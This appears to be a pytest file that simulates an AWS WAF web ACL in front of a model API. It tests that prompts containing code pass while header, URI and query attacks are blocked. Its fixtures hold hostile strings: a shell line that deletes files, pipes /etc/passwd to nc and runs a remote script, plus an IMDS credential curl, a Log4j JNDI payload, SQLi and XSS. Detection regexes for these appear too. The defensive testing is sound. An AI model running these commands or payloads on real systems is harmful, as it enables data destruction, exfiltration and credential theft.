"""The WAF protects without breaking the product: prompts full of code pass on the model routes, while the
managed rules still block on headers, URI and query string, and our own body rules (size, malformed JSON) hold.

The web ACL is evaluated as synthesized: each rule's statement, scope, action and rule-action overrides, in
priority order, with labels carried from rule to rule as WAF does. The managed rule groups' rules are
modelled from AWS's documentation (rule name, what it inspects, its label); their detection logic is not
public, so every rule that inspects the body is assumed to match every body it sees (the worst case), and
the header/URI/query rules match the attack patterns they are documented to look for.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field

import pytest

from stacks.constructs.api import MANAGED_BODY_RULES, greater_than_regex
from tests.infrastructure.conftest import config_for, only

pytestmark = pytest.mark.infrastructure

INSPECTION_LIMIT = 16 * 1024  # WAF's default body inspection limit for API Gateway


@dataclass
class Request:
    method: str
    path: str
    body: bytes = b""
    query: str = ""
    headers: dict[str, str] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.headers = {"user-agent": "anthropic-python/2.14", **{k.lower(): v for k, v in self.headers.items()}}
        if self.body and "content-length" not in self.headers:
            self.headers["content-length"] = str(len(self.body))


# (rule name, component, attack pattern) of each managed group, per AWS's rule tables. A body rule's
# pattern is None: it is assumed to match any body.
_LFI = r"\.\./|/etc/passwd"
_XSS = r"<script|javascript:|onerror\s*="
_SQLI = r"'\s*or\s+1\s*=\s*1|union\s+select|;\s*drop\s+table"
_SSRF = r"169\.254\.169\.254"
_RFI = r"https?://\d+\.\d+\.\d+\.\d+"
_LOG4J = r"\$\{jndi:"
MANAGED_GROUPS: dict[str, list[tuple[str, str, str | None]]] = {
    "AWSManagedRulesAmazonIpReputationList": [],
    "AWSManagedRulesCommonRuleSet": [
        ("NoUserAgent_HEADER", "no-user-agent", None),
        ("UserAgent_BadBots_HEADER", "user-agent", r"nessus|nmap"),
        ("SizeRestrictions_QUERYSTRING", "query-size", None),
        ("SizeRestrictions_URIPATH", "uri-size", None),
        ("EC2MetaDataSSRF_URIPATH", "uri", _SSRF),
        ("EC2MetaDataSSRF_QUERYARGUMENTS", "query", _SSRF),
        ("GenericLFI_QUERYARGUMENTS", "query", _LFI),
        ("GenericLFI_URIPATH", "uri", _LFI),
        ("GenericRFI_QUERYARGUMENTS", "query", _RFI),
        ("GenericRFI_URIPATH", "uri", _RFI),
        ("CrossSiteScripting_QUERYARGUMENTS", "query", _XSS),
        ("CrossSiteScripting_URIPATH", "uri", _XSS),
        ("RestrictedExtensions_URIPATH", "uri", r"\.(log|ini)$"),
        ("SizeRestrictions_BODY", "body", None),
        ("CrossSiteScripting_BODY", "body", None),
        ("GenericLFI_BODY", "body", None),
        ("GenericRFI_BODY", "body", None),
        ("EC2MetaDataSSRF_BODY", "body", None),
    ],
    "AWSManagedRulesKnownBadInputsRuleSet": [
        ("Host_localhost_HEADER", "host", r"^localhost"),
        ("PROPFIND_METHOD", "method", r"^PROPFIND$"),
        ("ExploitablePaths_URIPATH", "uri", r"/(\.git|WEB-INF|cgi-bin)"),
        ("Log4JRCE_QUERYSTRING", "query", _LOG4J),
        ("Log4JRCE_URIPATH", "uri", _LOG4J),
        ("Log4JRCE_HEADER", "headers", _LOG4J),
        ("JavaDeserializationRCE_BODY", "body", None),
        ("Log4JRCE_BODY", "body", None),
        ("ReactJSRCE_BODY", "body", None),
    ],
    "AWSManagedRulesSQLiRuleSet": [
        ("SQLi_QUERYARGUMENTS", "query", _SQLI),
        ("SQLiExtendedPatterns_QUERYARGUMENTS", "query", _SQLI),
        ("SQLi_COOKIE", "cookie", _SQLI),
        ("SQLi_URIPATH", "uri", _SQLI),
        ("SQLi_BODY", "body", None),
        ("SQLiExtendedPatterns_BODY", "body", None),
    ],
}
_NAMESPACES = {
    "AWSManagedRulesCommonRuleSet": "awswaf:managed:aws:core-rule-set:",
    "AWSManagedRulesKnownBadInputsRuleSet": "awswaf:managed:aws:known-bad-inputs:",
    "AWSManagedRulesSQLiRuleSet": "awswaf:managed:aws:sql-database:",
}


def _label(group: str, rule: str) -> str:
    """The label WAF adds: the namespace, then the rule name with its component suffix in title case."""
    stem, _, component = rule.rpartition("_")
    suffix = {"BODY": "Body", "URIPATH": "URIPath", "QUERYARGUMENTS": "QueryArguments", "QUERYSTRING": "QueryString"}
    return f"{_NAMESPACES.get(group, 'x:')}{stem}_{suffix.get(component, component.title())}"


def _managed_rule_matches(request: Request, component: str, pattern: str | None) -> bool:
    search = (lambda text: re.search(pattern, text, re.I) is not None) if pattern else None
    if component == "body":
        return bool(request.body)  # worst case: every body rule matches every body
    if component == "no-user-agent":
        return "user-agent" not in request.headers
    if component == "user-agent":
        return search(request.headers.get("user-agent", ""))
    if component == "host":
        return search(request.headers.get("host", ""))
    if component == "headers":
        return any(search(v) for v in request.headers.values())
    if component == "cookie":
        return search(request.headers.get("cookie", ""))
    if component == "query-size":
        return len(request.query) > 2048
    if component == "uri-size":
        return len(request.path) > 1024
    if component == "method":
        return search(request.method)
    if component == "uri":
        return search(request.path)
    if component == "query":
        return search(request.query)
    raise AssertionError(component)


# -- our own statements, as WAF evaluates them ---


def _field(request: Request, field_to_match: dict) -> tuple[str | None, bool]:
    """(text to inspect or None, oversize) for a FieldToMatch."""
    if "UriPath" in field_to_match:
        return request.path, False
    if "Method" in field_to_match:
        return request.method, False
    if "SingleHeader" in field_to_match:
        return request.headers.get(field_to_match["SingleHeader"]["Name"].lower()), False
    raise AssertionError(f"unmodelled field {field_to_match}")


def _json_body_values(request: Request, spec: dict) -> list[str] | None:
    """The inspected JSON values, or None when WAF cannot parse the (inspected part of the) body."""
    try:
        parsed = json.loads(request.body[:INSPECTION_LIMIT])
    except ValueError:
        return None
    values = []
    for pointer in spec["MatchPattern"]["IncludedPaths"]:
        node = parsed
        for part in pointer.strip("/").split("/"):
            if not isinstance(node, dict) or part not in node:
                node = None
                break
            node = node[part]
        if node is not None:
            values.append(node if isinstance(node, str) else json.dumps(node))
    return values


def _matches(statement: dict, request: Request, labels: set[str]) -> bool:
    ((kind, spec),) = statement.items()
    if kind == "AndStatement":
        return all(_matches(s, request, labels) for s in spec["Statements"])
    if kind == "OrStatement":
        return any(_matches(s, request, labels) for s in spec["Statements"])
    if kind == "NotStatement":
        return not _matches(spec["Statement"], request, labels)
    if kind == "LabelMatchStatement":
        if spec["Scope"] == "LABEL":
            return spec["Key"] in labels
        return any(label.startswith(spec["Key"]) for label in labels)
    if kind == "RateBasedStatement":
        return False  # one request never exceeds a rate
    if kind == "ByteMatchStatement":
        assert [t["Type"] for t in spec["TextTransformations"]] == ["NONE"]
        text, _ = _field(request, spec["FieldToMatch"])
        wanted = spec["SearchString"]
        return (
            text is not None
            and {
                "EXACTLY": text == wanted,
                "STARTS_WITH": text.startswith(wanted),
                "CONTAINS": wanted in text,
            }[spec["PositionalConstraint"]]
        )
    if kind == "RegexMatchStatement":
        assert [t["Type"] for t in spec["TextTransformations"]] == ["NONE"]
        text, _ = _field(request, spec["FieldToMatch"])
        return text is not None and re.search(spec["RegexString"], text) is not None
    if kind == "SizeConstraintStatement":
        json_body = spec["FieldToMatch"]["JsonBody"]
        if len(request.body) > INSPECTION_LIMIT:
            return {"MATCH": True, "NO_MATCH": False}[json_body["OversizeHandling"]]
        values = _json_body_values(request, json_body)
        if values is None:
            return {"MATCH": True, "NO_MATCH": False}[json_body["InvalidFallbackBehavior"]]
        size = spec["Size"]
        compare = {"GT": lambda n: n > size, "GE": lambda n: n >= size, "LT": lambda n: n < size}
        return any(compare[spec["ComparisonOperator"]](len(v.encode())) for v in values)
    raise AssertionError(f"unmodelled statement {kind}")


@dataclass
class Verdict:
    action: str  # ALLOW or BLOCK
    rule: str | None  # the terminating rule (and managed rule, as group/rule)
    labels: set[str]
    counted: list[str]
    status: int | None = None  # a custom response's status, None for the WAF_FILTERED gateway response


def evaluate(acl: dict, request: Request) -> Verdict:
    labels: set[str] = set()
    counted: list[str] = []
    for rule in sorted(acl["Rules"], key=lambda r: r["Priority"]):
        statement = rule["Statement"]
        if "ManagedRuleGroupStatement" in statement:
            group = statement["ManagedRuleGroupStatement"]
            assert "ScopeDownStatement" not in group, "a scope-down would hide headers and URI from the group"
            assert rule["OverrideAction"] == {"None": {}}, "the group's own actions must stay in force"
            overrides = {o["Name"]: o["ActionToUse"] for o in group.get("RuleActionOverrides", [])}
            for name, component, pattern in MANAGED_GROUPS[group["Name"]]:
                if not _managed_rule_matches(request, component, pattern):
                    continue
                labels.add(_label(group["Name"], name))
                if overrides.get(name) == {"Count": {}}:
                    counted.append(f"{group['Name']}/{name}")
                    continue
                return Verdict("BLOCK", f"{group['Name']}/{name}", labels, counted)
            continue
        if not _matches(statement, request, labels):
            continue
        labels.update(label["Name"] for label in rule.get("RuleLabels", []))
        if "Block" in rule["Action"]:
            custom = (rule["Action"]["Block"] or {}).get("CustomResponse") or {}
            return Verdict("BLOCK", rule["Name"], labels, counted, custom.get("ResponseCode"))
        if "Count" in rule["Action"]:
            counted.append(rule["Name"])
    return Verdict("ALLOW" if "Allow" in acl["DefaultAction"] else "BLOCK", None, labels, counted)


def _acl(synthesized) -> dict:
    _, acl = only(synthesized.stateless, "AWS::WAFv2::WebACL")
    return acl["Properties"]


def _prompt(text: str, *, stream: bool = True) -> bytes:
    return json.dumps(
        {
            "model": "claude-sonnet-4-5",
            "max_tokens": 1024,
            "stream": stream,
            "system": "You are a code reviewer.",
            "messages": [{"role": "user", "content": text}],
        }
    ).encode()


PROMPTS_FULL_OF_CODE = {
    "html-and-script": "Why does this not run?\n<html><body onload=init()><script>document.write('<img src=x "
    'onerror=alert(1)>\')</script><a href="javascript:void(0)">x</a></body></html>',
    "sql-injection": "Is this login safe? SELECT * FROM users WHERE name = '' OR 1=1 --' AND pw = '';"
    " also: ' UNION SELECT password FROM users; DROP TABLE users; --",
    "shell": "What does this do? rm -rf /; cat /etc/passwd | nc 10.0.0.1 4444; curl http://1.2.3.4/x.sh | sh",
    "path-traversal": "My server serves ../../../../etc/passwd and ..\\..\\windows\\win.ini, how to fix?",
    "imds": "Explain: curl http://169.254.169.254/latest/meta-data/iam/security-credentials/ and IMDSv2",
    "log4j-and-java": "Explain ${jndi:ldap://evil.example/a} and rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA== gadgets",
    "large-code-file": "Review this file:\n"
    + ("<div class='x'><script>var q = \"' OR 1=1 --\";</script></div>\n" * 900),
}


@pytest.mark.parametrize("path", ["/api/v1/messages", "/api/v1/messages/count_tokens", "/v1/messages"])
@pytest.mark.parametrize("name", sorted(PROMPTS_FULL_OF_CODE))
def test_prompts_full_of_code_pass_on_the_model_routes(prod, name, path):
    # Given a prompt that looks like every attack a body rule looks for, when it is POSTed to a model route...
    request = Request("POST", path, _prompt(PROMPTS_FULL_OF_CODE[name]), query="beta=true")
    verdict = evaluate(_acl(prod), request)
    # ...then no rule blocks it, and every managed body rule did see it (it only counted).
    assert verdict.action == "ALLOW", verdict
    every_body_rule = {
        f"{group}/{name}"
        for group, rules in MANAGED_GROUPS.items()
        for name, component, _ in rules
        if component == "body"
    }
    assert set(verdict.counted) == every_body_rule


def test_every_managed_body_rule_is_counted_on_the_model_routes_in_each_group(prod):
    for rule in _acl(prod)["Rules"]:
        group = rule["Statement"].get("ManagedRuleGroupStatement")
        if group is None:
            continue
        counted = {o["Name"] for o in group.get("RuleActionOverrides", []) if o["ActionToUse"] == {"Count": {}}}
        body_rules = {name for name, component, _ in MANAGED_GROUPS[group["Name"]] if component == "body"}
        assert counted == body_rules, group["Name"]  # only the body rules: headers, URI and query still block


@pytest.mark.parametrize(
    ("request_", "blocker"),
    [
        (Request("GET", "/api/v1/models/../../etc/passwd"), "AWSManagedRulesCommonRuleSet/GenericLFI_URIPATH"),
        (
            Request("GET", "/api/v1/usage", query="q=<script>alert(1)</script>"),
            "AWSManagedRulesCommonRuleSet/CrossSiteScripting_QUERYARGUMENTS",
        ),
        (Request("GET", "/api/v1/usage", query="id=1' OR 1=1 --"), "AWSManagedRulesSQLiRuleSet/SQLi_QUERYARGUMENTS"),
        (
            Request("POST", "/api/v1/messages", _prompt("hi"), headers={"x-forwarded": "${jndi:ldap://x/a}"}),
            "AWSManagedRulesKnownBadInputsRuleSet/Log4JRCE_HEADER",
        ),
        (
            Request("POST", "/api/v1/messages/169.254.169.254/latest/meta-data", _prompt("hi")),
            "AWSManagedRulesCommonRuleSet/EC2MetaDataSSRF_URIPATH",
        ),
    ],
    ids=["lfi-uri", "xss-query", "sqli-query", "log4j-header-on-a-model-route", "ssrf-uri"],
)
def test_header_uri_and_query_rules_still_block(prod, request_, blocker):
    verdict = evaluate(_acl(prod), request_)
    assert (verdict.action, verdict.rule) == ("BLOCK", blocker)


def test_body_signatures_still_block_off_the_model_routes(prod):
    # The same code-filled body POSTed anywhere else is not a prompt: the counted labels block it.
    body = _prompt(PROMPTS_FULL_OF_CODE["sql-injection"])
    for request in (Request("POST", "/api/v1/other", body), Request("GET", "/api/v1/models", body)):
        verdict = evaluate(_acl(prod), request)
        assert (verdict.action, verdict.rule) == ("BLOCK", "BodySignaturesOffModelRoutes"), request.path


def test_malformed_json_on_a_model_route_is_answered_400(prod):
    for body in (b'{"model": "claude-sonnet-4-5", "messages": [', b"model=claude&max_tokens=1", b"\xff\xfe"):
        verdict = evaluate(_acl(prod), Request("POST", "/api/v1/messages", body))
        assert (verdict.action, verdict.rule, verdict.status) == ("BLOCK", "ModelBodyNotJson", 400), body
    # A valid prompt larger than WAF can inspect is not judged by its truncated JSON.
    big = _prompt("x" * (3 * INSPECTION_LIMIT))
    assert evaluate(_acl(prod), Request("POST", "/api/v1/messages", big)).action == "ALLOW"


def test_a_body_over_the_limit_is_answered_413_and_one_at_the_limit_passes(prod):
    limit = config_for("prod").waf_max_body_bytes
    over = Request("POST", "/api/v1/messages", _prompt("hi"), headers={"content-length": str(limit + 1)})
    at = Request("POST", "/api/v1/messages", _prompt("hi"), headers={"content-length": str(limit)})
    verdict = evaluate(_acl(prod), over)
    assert (verdict.action, verdict.rule, verdict.status) == ("BLOCK", "ModelBodyTooLarge", 413)
    assert evaluate(_acl(prod), at).action == "ALLOW"


@pytest.mark.parametrize("limit", [1024, 8_388_608, 10_485_760, 999, 1000, 9_999_999])
def test_the_content_length_regex_matches_exactly_the_numbers_above_the_limit(limit):
    pattern = re.compile(greater_than_regex(limit))
    probes = {0, 1, 9, 10, limit - 1, limit, limit + 1, limit + 9, limit * 10, 10 ** len(str(limit)) - 1}
    probes |= {10 ** len(str(limit)), 10 ** (len(str(limit)) + 3), int(str(limit)[0] + "9" * (len(str(limit)) - 1))}
    for n in sorted(p for p in probes if p >= 0):
        assert bool(pattern.match(str(n))) == (n > limit), n
    assert not pattern.match(f"0{limit + 1}") and not pattern.match(f"{limit + 1} ") and not pattern.match("")


def test_waf_answers_and_gateway_responses_are_in_the_anthropic_error_shape(prod):
    acl = _acl(prod)
    bodies = acl["CustomResponseBodies"]
    for rule in acl["Rules"]:
        custom = (rule.get("Action", {}).get("Block") or {}).get("CustomResponse")
        if custom:
            body = bodies[custom["CustomResponseBodyKey"]]
            assert body["ContentType"] == "APPLICATION_JSON"
            parsed = json.loads(body["Content"])
            assert parsed["type"] == "error" and set(parsed["error"]) == {"type", "message"}
    rate = next(r for r in acl["Rules"] if r["Name"] == "RatePerIp")["Action"]["Block"]["CustomResponse"]
    assert rate["ResponseCode"] == 429 and {"Name": "retry-after", "Value": "60"} in rate["ResponseHeaders"]
    assert json.loads(bodies[rate["CustomResponseBodyKey"]]["Content"])["error"]["type"] == "rate_limit_error"


def test_the_labels_the_stack_blocks_on_are_the_ones_the_managed_rules_add():
    for group, rules in MANAGED_BODY_RULES.items():
        for rule, label in rules.items():
            assert label == _label(group, rule)
